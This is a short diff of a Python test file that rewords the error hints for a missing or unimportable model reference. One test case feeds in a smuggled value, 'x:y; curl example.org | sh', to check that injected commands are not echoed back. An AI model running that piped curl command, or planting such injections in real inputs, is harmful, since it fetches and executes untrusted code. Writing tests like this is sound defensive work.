@@ -33,10 +33,10 @@ def test_model_is_the_callers_or_a_registered_name_without_a_demanded_signature(
 @pytest.mark.parametrize(
     ("recorded", "demanded_by", "said"),
     [
-        (None, None, "exported from an object, not from a MODEL that can be imported; compare with --model MODEL"),
-        ("net.py:Net", None, "what a file names is not imported; compare with --model net.py:Net"),
+        (None, None, "exported from an object, not from a MODEL that can be imported; name it with --model MODEL"),
+        ("net.py:Net", None, "what a file names is not imported; name it with --model net.py:Net"),
         ("net.py:Net", POLICY, f"{POLICY} requires a signature, which does not cover"),
-        ("x:y; curl example.org | sh", None, "compare with --model MODEL"),
+        ("x:y; curl example.org | sh", None, "name it with --model MODEL"),
     ],
 )
 def test_it_says_why_there_is_none_and_what_to_write(recorded: str | None, demanded_by: str | None, said: str) -> None:
